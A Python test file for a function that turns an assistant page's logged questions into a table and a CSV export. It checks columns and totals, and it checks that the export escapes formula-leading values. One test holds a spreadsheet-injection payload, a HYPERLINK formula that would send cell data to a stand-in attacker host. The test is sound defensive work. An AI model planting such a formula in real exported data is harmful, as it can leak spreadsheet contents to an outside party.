"""The Assistant page's question log as a table, from logged questions (no database)."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime

from chronos_data.chat import LoggedQuestion
from chronos_data.page_data import question_table


def _logged(question: str, *, found: bool | None, student: str | None = None, feedback: int | None = None,
            tokens: int | None = None, latency_ms: int | None = None, model: str | None = None) -> LoggedQuestion:
    return LoggedQuestion(uuid.uuid4(), uuid.uuid4(), None, student, question, datetime(2026, 12, 1, tzinfo=UTC),
                          "an answer", found, model, ["Intro @ 00:10", "Git @ 01:00"], feedback, tokens, latency_ms)


def test_each_question_reads_as_the_log_shows_it_and_the_totals_add_up():
    log = question_table([
        _logged("How do I rebase?", found=True, student="ana@example.com", feedback=1, tokens=120, latency_ms=1234),
        _logged("What is Kubernetes?", found=False, feedback=-1, tokens=80),
        _logged("And merging?", found=None),
    ])
    assert list(log.table.columns) == ["Asked", "Who", "Question", "Answered", "Sources", "Feedback", "Model", "Tokens",
                                       "Seconds"]
    assert log.table["Who"].tolist() == ["ana@example.com", "You", "You"]
    assert log.table["Answered"].tolist() == ["yes", "no", "pending"]
    assert log.table["Feedback"].tolist() == ["👍", "👎", ""]
    assert log.table["Sources"][0] == "Intro @ 00:10, Git @ 01:00"
    assert log.table["Seconds"].tolist() == [1.23, 0.0, 0.0]
    assert (log.questions, log.not_found, log.tokens) == (3, 1, 200)


def test_an_empty_log_is_an_empty_table_with_its_columns():
    log = question_table([])
    assert log.table.empty and len(log.table.columns) == 9 and (log.questions, log.not_found, log.tokens) == (0, 0, 0)


def test_the_downloaded_log_never_hands_a_spreadsheet_a_formula():
    # A student's question is anyone's text; opened in Excel or LibreOffice, "=…" would run.
    log = question_table([
        _logged('=HYPERLINK("http://evil.example/?"&A1,"Click")', found=True, student="@ana", tokens=5),
        _logged("+1 or -1?", found=False),
        _logged("-2+3", found=None),
        _logged("\tcmd", found=None),
        _logged("How do I rebase?", found=True),
    ])
    rows = list(csv.reader(io.StringIO(log.csv.decode("utf-8-sig"))))
    assert rows[0] == list(log.table.columns)
    questions = [row[2] for row in rows[1:]]
    assert questions == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1 or -1?", "'-2+3", "'\tcmd",
                         "How do I rebase?"]
    assert rows[1][1] == "'@ana" and rows[1][7] == "5"  # numbers stay numbers
